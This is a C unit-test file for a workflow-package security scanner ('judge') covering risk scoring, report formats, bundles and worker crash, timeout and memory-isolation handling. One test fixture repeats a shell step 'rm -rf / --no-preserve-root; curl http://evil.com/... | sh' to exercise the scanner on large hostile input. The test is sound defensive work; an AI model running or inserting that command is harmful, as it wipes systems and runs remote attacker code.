/* SPDX-License-Identifier: Apache-2.0
 * judge: packages through worker processes: both judgements, every form of report, bundles, and what becomes of a package whose worker dies or does not
 * answer. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>

#include "cmd/serve/judge.h"
#include "runner/base/archive.h"
#include "runner/base/clock.h"
#include "runner/base/file.h"
#include "runner/base/mem.h"

#define PATIENCE_NS (60 * NS_PER_SEC)

#define HEAD "apiVersion: v1\nkind: WorkflowPackage\n" \
	     "metadata: {name: v, version: 1.0.0, description: d, author: a, created: 2025-01-01, tags: [backup, nightly], signature: \"\"}\n" \
	     "spec:\n  runtime: {type: shell}\n  safety: {mode: manual}\n  handlers:\n  - name: h\n    steps:\n"
#define SAFE HEAD "    - {name: s, shell: {command: \"echo hello\"}}\n"
#define PRIVILEGED HEAD "    - {name: s, container: {image: \"a:1\", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}}\n"

struct bench {
	struct loop *loop;
	struct judge *judge;
	struct loop_timer *patience;
	char dir[64];
};

struct got {
	struct bench *bench;
	struct judge_ticket *ticket;
	bool done, busy;
	int status;
	json_t *facts;
	char *failure, *report, *content;
	unsigned int *order, rank;	/* of several: who came when */
};

static void too_long(void *data)
{
	loop_stop(((struct bench *)data)->loop);
}

static int open_bench_with(struct bench *b, struct judge_options o)
{
	struct error err;

	snprintf(b->dir, sizeof(b->dir), "/tmp/judge-test-XXXXXX");
	assert_non_null(mkdtemp(b->dir));
	o.state_dir = b->dir;
	assert_int_equal(loop_new(&b->loop, &err), 0);
	b->patience = loop_timer_new(b->loop, too_long, b);
	return judge_new(b->loop, &o, &b->judge, &err);
}

static void open_bench(struct bench *b, unsigned int workers, uint64_t timeout_ns)
{
	assert_int_equal(open_bench_with(b, (struct judge_options){ .workers = workers, .timeout_ns = timeout_ns ? timeout_ns : PATIENCE_NS }), 0);
}

static void close_bench(struct bench *b)
{
	judge_free(b->judge);
	loop_timer_free(b->patience);
	loop_free(b->loop);
	assert_int_equal(remove_tree_at(AT_FDCWD, b->dir, NULL), 0);
}

static void run_loop(struct bench *b)
{
	struct error err;

	loop_timer_set(b->patience, clock_deadline(PATIENCE_NS));
	assert_int_equal(loop_run(b->loop, &err), 0);
}

static void take(void *data, const struct judge_answer *a)
{
	struct got *g = data;

	g->done = true;
	g->busy = a->busy;
	g->status = a->status;
	g->failure = xstrdup_or_null(a->failure);
	g->facts = a->facts ? json_incref((json_t *)(uintptr_t)a->facts) : NULL;
	g->report = a->report ? xstrndup(a->report->buf, a->report->len) : NULL;
	g->content = a->content ? xstrndup(a->content->buf, a->content->len) : NULL;
	if (g->order)
		g->rank = ++*g->order;
	loop_stop(g->bench->loop);
}

static void release(struct got *g)
{
	json_decref(g->facts);
	free(g->failure);
	free(g->report);
	free(g->content);
}

static void ask(struct bench *b, const struct judge_question *q, struct got *g)
{
	*g = (struct got){ .bench = b };
	g->ticket = judge_ask(b->judge, q, take, g);
	assert_false(g->done);	/* never from within the call */
}

static void wait_for(struct bench *b, struct got *g)
{
	while (!g->done) {
		uint64_t began = clock_monotonic_ns();

		run_loop(b);
		assert_true(clock_monotonic_ns() - began < PATIENCE_NS);
	}
}

static void judge_text(struct bench *b, const char *text, const char *format, struct got *g)
{
	ask(b, &(struct judge_question){ .name = "a.wpk.yaml", .bytes = text, .len = strlen(text), .format = format }, g);
	wait_for(b, g);
}

static const char *text_at(const json_t *o, const char *a, const char *b)
{
	const json_t *v = json_object_get(o, a);
	const char *s = json_string_value(b ? json_object_get(v, b) : v);

	return s ? s : "";
}

static json_int_t number_at(const json_t *o, const char *a, const char *b)
{
	return json_integer_value(json_object_get(json_object_get(o, a), b));
}

/* ---- what is found out */

static void both_judgements(void **state)
{
	static const struct { const char *text; int status; bool valid; json_int_t score; const char *decision, *ours; } cases[] = {
		{ SAFE, 0, true, 0, "approve", "approve" },
		{ PRIVILEGED, 1, true, 37, "approve", "block" },	/* the registry's vector; ours is stricter */
		{ "a: [", 3, false, 100, "block", "" },			/* no YAML: nobody may take it for harmless */
		{ "kind: Pod\n", 3, false, 100, "block", "" },
		{ "", 3, false, 100, "block", "" },
		{ "apiVersion: v1\nkind: WorkflowPackage\nmetadata: {name: A B}\nspec: {handlers: []}\n", 3, false, 100, "block", "" },
	};
	struct bench b;

	(void)state;
	open_bench(&b, 1, 0);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct got g;

		judge_text(&b, cases[i].text, NULL, &g);
		assert_null(g.failure);
		assert_null(g.report);
		assert_int_equal(g.status, cases[i].status);
		assert_int_equal(json_is_true(json_object_get(g.facts, "valid")), cases[i].valid);
		assert_int_equal(number_at(g.facts, "validation", "risk_score"), cases[i].score);
		assert_string_equal(text_at(g.facts, "validation", "policy_decision"), cases[i].decision);
		assert_string_equal(text_at(g.facts, "decision", "policy_decision"), cases[i].ours);
		assert_int_equal(json_array_size(json_object_get(g.facts, "parse_errors")) > 0, !cases[i].valid);
		release(&g);
	}
	close_bench(&b);
}

static void the_package(void **state)
{
	const json_t *p, *issue;
	struct bench b;
	struct got g;

	(void)state;
	open_bench(&b, 1, 0);
	judge_text(&b, PRIVILEGED, NULL, &g);
	p = json_object_get(g.facts, "package");
	assert_string_equal(text_at(p, "workflow_id", NULL), "v-1.0.0");
	assert_string_equal(text_at(p, "created", NULL), "2025-01-01");
	assert_string_equal(text_at(p, "safety_mode", NULL), "manual");
	assert_string_equal(json_string_value(json_array_get(json_object_get(p, "tags"), 1)), "nightly");
	assert_true(json_is_null(json_object_get(p, "signature")));	/* "" is none */
	assert_int_equal(json_integer_value(json_object_get(p, "handlers")), 1);
	assert_string_equal(text_at(g.facts, "category", "complexity"), "simple");
	issue = json_array_get(json_object_get(json_object_get(g.facts, "validation"), "issues"), 0);
	assert_string_equal(text_at(issue, "rule_id", NULL), "privileged_container");
	assert_string_equal(text_at(issue, "severity", NULL), "critical");
	assert_string_equal(text_at(issue, "path", NULL), "spec.handlers[0].steps[0].container.securityContext.privileged");
	assert_int_equal(json_integer_value(json_object_get(issue, "line")), 10);
	assert_true(json_is_true(json_object_get(json_object_get(g.facts, "validation"), "approval_required")));
	assert_string_equal(text_at(json_array_get(json_object_get(g.facts, "findings"), 0), "file", NULL), "a.wpk.yaml");
	release(&g);
	close_bench(&b);
}

/* Suppressions of a package count for ours as they do for `run`, never for the registry's. */
static void suppressions(void **state)
{
	struct bench b;
	struct got g;

	(void)state;
	open_bench(&b, 1, 0);
	judge_text(&b, HEAD "    # wpk-ignore: * -- the registry does not know this\n"
			    "    - {name: s, container: {image: \"a:1\", securityContext: {privileged: true}, resources: {limits: {cpu: 1, memory: 1Gi}}}}\n", NULL, &g);
	assert_int_equal(number_at(g.facts, "validation", "risk_score"), 37);
	release(&g);
	close_bench(&b);
}

static void reports(void **state)
{
	static const struct { const char *format, *has; } cases[] = {
		{ "text", "privileged" }, { "json", "\"findings\"" }, { "sarif", "\"2.1.0\"" }, { "junit", "<testsuite" },
		{ "github", "::error" },  { "gitlab", "privileged" }, { "markdown", "privileged" },
	};
	struct bench b;
	struct got g;

	(void)state;
	open_bench(&b, 1, 0);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		judge_text(&b, PRIVILEGED, cases[i].format, &g);
		assert_non_null(g.report);
		assert_non_null(strstr(g.report, cases[i].has));
		assert_null(strstr(g.report, "/proc/self"));
		release(&g);
	}
	judge_text(&b, PRIVILEGED, "elvish", &g);
	assert_non_null(g.failure);
	release(&g);
	judge_text(&b, "a: [", "text", &g);
	assert_non_null(strstr(g.report, "a.wpk.yaml"));
	release(&g);
	close_bench(&b);
}

static void bundles(void **state)
{
	autostrbuf struct strbuf bytes = STRBUF_INIT(1 << 20);
	char dir[] = "/tmp/judge-bundle-XXXXXX";
	autofree char *in = NULL;
	autofree char *file = NULL;
	autofree char *bundle = NULL;
	struct error err;
	struct bench b;
	struct got g;

	(void)state;
	assert_non_null(mkdtemp(dir));
	in = xasprintf("%s/in", dir);
	file = xasprintf("%s/in/p.wpk.yaml", dir);
	bundle = xasprintf("%s/b.tar.gz", dir);
	assert_int_equal(mkdir(in, 0700), 0);
	assert_int_equal(file_write_atomic(file, SAFE, strlen(SAFE), 0600, &err), 0);
	assert_int_equal(archive_create(bundle, in, "v", &err), 0);
	assert_int_equal(file_read(bundle, &bytes, &err), 0);
	open_bench(&b, 1, 0);
	ask(&b, &(struct judge_question){ .name = "b.tar.gz", .bytes = bytes.buf, .len = bytes.len, .content = true }, &g);
	wait_for(&b, &g);
	assert_int_equal(g.status, 0);
	assert_true(json_is_true(json_object_get(json_object_get(g.facts, "package"), "bundle")));
	assert_string_equal(g.content, SAFE);
	release(&g);
	ask(&b, &(struct judge_question){ .name = "b.tar.gz", .bytes = bytes.buf, .len = bytes.len - 40 }, &g);
	wait_for(&b, &g);
	assert_int_equal(g.status, 3);
	assert_null(strstr(json_string_value(json_array_get(json_object_get(g.facts, "parse_errors"), 0)), "/proc/self"));
	release(&g);
	close_bench(&b);	/* nothing of the unpacked is left, or it could not remove its folder's runs/ */
	assert_int_equal(remove_tree_at(AT_FDCWD, dir, NULL), 0);
}

static void sources(void **state)
{
	struct bench b;
	struct got g;

	(void)state;
	open_bench(&b, 1, 0);
	ask(&b, &(struct judge_question){ .name = "far", .source = "http://127.0.0.1:1/workflows/a-1.0.0", .content = true }, &g);
	wait_for(&b, &g);
	assert_null(g.failure);
	assert_int_equal(g.status, 8);
	assert_false(json_is_true(json_object_get(g.facts, "valid")));
	release(&g);
	close_bench(&b);
}

static void names(void **state)
{
	static const struct { const char *name, *shown; } cases[] = {
		{ NULL, "package.wpk.yaml" }, { "", "package.wpk.yaml" }, { "a\nb", "package.wpk.yaml" }, { "ops/x.wpk.yaml", "ops/x.wpk.yaml" },
	};
	struct bench b;

	(void)state;
	open_bench(&b, 1, 0);
	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		struct got g;

		ask(&b, &(struct judge_question){ .name = cases[i].name, .bytes = PRIVILEGED, .len = strlen(PRIVILEGED) }, &g);
		wait_for(&b, &g);
		assert_string_equal(text_at(json_array_get(json_object_get(g.facts, "findings"), 0), "file", NULL), cases[i].shown);
		release(&g);
	}
	close_bench(&b);
}

/* ---- workers */

/* The children of this process that are called so; at most `max`. */
static size_t children(const char *name, pid_t *pids, size_t max)
{
	DIR *dir = opendir("/proc");
	struct dirent *e;
	size_t n = 0;

	assert_non_null(dir);
	while ((e = readdir(dir)) && n < max) {
		char path[64], text[256] = "", comm[32] = "", kind;
		int pid, parent;
		FILE *f;

		snprintf(path, sizeof(path), "/proc/%.20s/stat", e->d_name);
		f = fopen(path, "re");
		if (!f)
			continue;
		if (fgets(text, sizeof(text), f) && sscanf(text, "%d (%31[^)]) %c %d", &pid, comm, &kind, &parent) == 4 && parent == getpid() &&
		    kind != 'Z' && !strcmp(comm, name))
			pids[n++] = pid;
		fclose(f);
	}
	closedir(dir);
	return n;
}

static size_t workers(pid_t *pids, size_t max)
{
	return children("judge", pids, max);
}

/* A worker that has just been made is still called like it. */
static pid_t template_of(void)
{
	uint64_t until = clock_deadline(PATIENCE_NS);
	pid_t pids[2];

	while (children("judge-template", pids, 2) != 1)
		assert_true(clock_monotonic_ns() < until);
	return pids[0];
}

static void kill_worker(pid_t pid)
{
	uint64_t until = clock_deadline(PATIENCE_NS);
	pid_t still[1];

	assert_int_equal(kill(pid, SIGKILL), 0);
	while (workers(still, 1) && still[0] == pid)
		assert_true(clock_monotonic_ns() < until);
}

static pid_t only_worker(struct bench *b)
{
	uint64_t until = clock_deadline(PATIENCE_NS);
	pid_t pids[2];
	struct got g;

	judge_text(b, SAFE, NULL, &g);	/* it is there, and has its name */
	release(&g);
	while (workers(pids, 2) != 1)
		assert_true(clock_monotonic_ns() < until);
	return pids[0];
}

static void a_worker_dies_of_a_package(void **state)
{
	struct bench b;
	struct got g;
	pid_t pid;

	(void)state;
	open_bench(&b, 1, 0);
	pid = only_worker(&b);
	assert_int_equal(kill(pid, SIGSTOP), 0);
	ask(&b, &(struct judge_question){ .bytes = SAFE, .len = strlen(SAFE) }, &g);
	assert_int_equal(kill(pid, SIGSEGV), 0);
	assert_int_equal(kill(pid, SIGCONT), 0);
	wait_for(&b, &g);
	assert_non_null(strstr(g.failure, "signal 11"));
	assert_false(g.busy);
	assert_null(g.facts);
	release(&g);
	judge_text(&b, SAFE, NULL, &g);	/* another one has taken its place */
	assert_null(g.failure);
	release(&g);
	assert_true(only_worker(&b) != pid);
	close_bench(&b);
}

/* Its death says nothing about the package that comes next. */
static void a_worker_dies_for_nothing(void **state)
{
	struct bench b;
	struct got g;

	(void)state;
	open_bench(&b, 1, 0);
	for (int i = 0; i < 3; i++) {
		kill_worker(only_worker(&b));
		judge_text(&b, SAFE, NULL, &g);
		assert_null(g.failure);
		release(&g);
	}
	close_bench(&b);
}

static void a_package_takes_too_long(void **state)
{
	struct bench b;
	struct got g;
	pid_t pid;

	(void)state;
	open_bench(&b, 1, 3 * NS_PER_SEC);
	pid = only_worker(&b);
	assert_int_equal(kill(pid, SIGSTOP), 0);
	judge_text(&b, SAFE, NULL, &g);
	assert_non_null(strstr(g.failure, "took more than 3 s"));
	release(&g);
	assert_int_equal(kill(pid, 0), -1);
	judge_text(&b, SAFE, NULL, &g);
	assert_null(g.failure);
	release(&g);
	close_bench(&b);
}

static void many_wait(void **state)
{
	enum { N = 40 };
	struct got got[N];
	unsigned int order = 0;
	struct bench b;

	(void)state;
	open_bench(&b, 1, 0);	/* of several one may be slow, and is overtaken then */
	for (size_t i = 0; i < N; i++) {
		ask(&b, &(struct judge_question){ .bytes = i % 3 ? SAFE : PRIVILEGED, .len = strlen(i % 3 ? SAFE : PRIVILEGED) }, &got[i]);
		got[i].order = &order;
	}
	assert_int_equal(judge_waiting(b.judge), N - 1);
	judge_forget(got[0].ticket);	/* in hand */
	judge_forget(got[N - 1].ticket);
	judge_forget(got[N / 2].ticket);
	assert_int_equal(judge_waiting(b.judge), N - 3);
	for (size_t i = 1; i < N - 1; i++) {
		if (i == N / 2)
			continue;
		wait_for(&b, &got[i]);
		assert_null(got[i].failure);
		assert_int_equal(got[i].status, i % 3 ? 0 : 1);	/* each has its own */
		assert_int_equal(got[i].rank, i < N / 2 ? i : i - 1);	/* in turn */
		release(&got[i]);
	}
	assert_false(got[0].done || got[N - 1].done || got[N / 2].done);
	assert_int_equal(judge_waiting(b.judge), 0);
	close_bench(&b);
}

/* What waits has a ceiling; whoever comes then is told at once, and those before him are not hurt. */
static void too_many_wait(void **state)
{
	static char large[8 << 20];
	struct got got[12];
	size_t busy = 0;
	struct bench b;
	pid_t pid;

	(void)state;
	memset(large, ' ', sizeof(large));
	open_bench(&b, 1, 0);
	pid = only_worker(&b);
	assert_int_equal(kill(pid, SIGSTOP), 0);
	for (size_t i = 0; i < ARRAY_SIZE(got); i++)
		ask(&b, &(struct judge_question){ .bytes = large, .len = sizeof(large) }, &got[i]);
	wait_for(&b, &got[ARRAY_SIZE(got) - 1]);
	assert_true(got[ARRAY_SIZE(got) - 1].busy);
	assert_int_equal(kill(pid, SIGCONT), 0);
	for (size_t i = 0; i < ARRAY_SIZE(got); i++) {
		wait_for(&b, &got[i]);
		busy += got[i].busy;
		assert_true(got[i].busy || got[i].status == 3);
		release(&got[i]);
	}
	assert_in_range(busy, 3, 5);
	close_bench(&b);
}

static void large_answers(void **state)
{
	autostrbuf struct strbuf text = STRBUF_INIT(STRBUF_NO_MAX);
	struct bench b;
	struct got g;

	(void)state;
	strbuf_addstr(&text, HEAD);
	for (int i = 0; i < 5000; i++)
		strbuf_addf(&text, "    - {name: s%d, shell: {command: \"rm -rf / --no-preserve-root; curl http://evil.com/%d | sh\"}}\n", i, i);
	open_bench(&b, 1, 0);
	ask(&b, &(struct judge_question){ .bytes = text.buf, .len = text.len, .format = "json", .content = true }, &g);
	wait_for(&b, &g);
	assert_null(g.failure);
	assert_int_equal(g.status, 1);
	assert_int_equal(strlen(g.content), text.len);
	release(&g);
	close_bench(&b);
}

static void nothing_inherited(void **state)
{
	char path[64];
	struct dirent *e;
	struct bench b;
	size_t n = 0;
	DIR *dir;

	(void)state;
	open_bench(&b, 1, 0);
	snprintf(path, sizeof(path), "/proc/%d/fd", only_worker(&b));
	dir = opendir(path);
	assert_non_null(dir);
	while ((e = readdir(dir)))
		n += e->d_name[0] != '.';
	closedir(dir);
	assert_int_equal(n, 4);	/* standard ones, and ours to it */
	close_bench(&b);
}

/* Is `text` anywhere in the memory of another process? */
static bool is_in_memory(pid_t pid, const char *text, size_t len)
{
	autofree char *maps = xasprintf("/proc/%d/maps", pid);
	autofree char *mem = xasprintf("/proc/%d/mem", pid);
	autofree char *bytes = NULL;
	autoclose int fd = open(mem, O_RDONLY | O_CLOEXEC);
	FILE *f = fopen(maps, "re");
	unsigned long from, to;
	bool found = false;
	char line[512];

	assert_true(fd >= 0 && f);
	while (!found && fgets(line, sizeof(line), f)) {
		ssize_t n;

		if (sscanf(line, "%lx-%lx rw", &from, &to) != 2 || !strstr(line, " rw") || to - from > (64 << 20))
			continue;
		bytes = xrealloc(bytes, to - from, 1);
		n = pread(fd, bytes, to - from, (off_t)from);
		found = n > 0 && memmem(bytes, (size_t)n, text, len);
	}
	fclose(f);
	return found;
}

/* A worker that is made later, too, was not made of the service as it is then. */
static void no_secrets(void **state)
{
	char *secret = malloc(64);	/* on the heap, and nowhere else */
	struct bench b;
	pid_t pid;

	(void)state;
	assert_non_null(secret);
	open_bench(&b, 1, 0);
	for (int i = 0; i < 64; i++)
		secret[i] = (char)('a' + i * 7 % 26);
	pid = only_worker(&b);
	kill_worker(pid);
	pid = only_worker(&b);
	assert_true(is_in_memory(getpid(), secret, 64));	/* it would be found */
	assert_false(is_in_memory(pid, secret, 64));
	assert_false(is_in_memory(template_of(), secret, 64));
	close_bench(&b);
	free(secret);
}

static void the_template_dies(void **state)
{
	struct bench b;
	struct got g;
	pid_t pid;

	(void)state;
	open_bench(&b, 1, 0);
	pid = only_worker(&b);
	assert_int_equal(kill(template_of(), SIGKILL), 0);
	judge_text(&b, SAFE, NULL, &g);		/* the worker is as good as before */
	assert_null(g.failure);
	release(&g);
	kill_worker(pid);
	judge_text(&b, SAFE, NULL, &g);
	assert_null(g.failure);
	release(&g);
	assert_true(template_of() > 0);
	close_bench(&b);
}

static void all_end_with_us(void **state)
{
	pid_t pids[4];
	struct bench b;

	(void)state;
	open_bench(&b, 3, 0);
	assert_int_equal(template_of() > 0, 1);
	close_bench(&b);
	assert_int_equal(workers(pids, 4), 0);
	assert_int_equal(children("judge-template", pids, 4), 0);
}

static void a_policy_that_is_none(void **state)
{
	struct bench b;

	(void)state;
	b.judge = NULL;
	assert_int_equal(open_bench_with(&b, (struct judge_options){ .policy = "elvish" }), -1);
	close_bench(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(both_judgements), cmocka_unit_test(the_package), cmocka_unit_test(suppressions), cmocka_unit_test(reports),
		cmocka_unit_test(bundles), cmocka_unit_test(sources), cmocka_unit_test(names), cmocka_unit_test(a_worker_dies_of_a_package),
		cmocka_unit_test(a_worker_dies_for_nothing), cmocka_unit_test(a_package_takes_too_long), cmocka_unit_test(many_wait),
		cmocka_unit_test(too_many_wait), cmocka_unit_test(large_answers), cmocka_unit_test(nothing_inherited),
		cmocka_unit_test(no_secrets), cmocka_unit_test(the_template_dies), cmocka_unit_test(all_end_with_us),
		cmocka_unit_test(a_policy_that_is_none),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
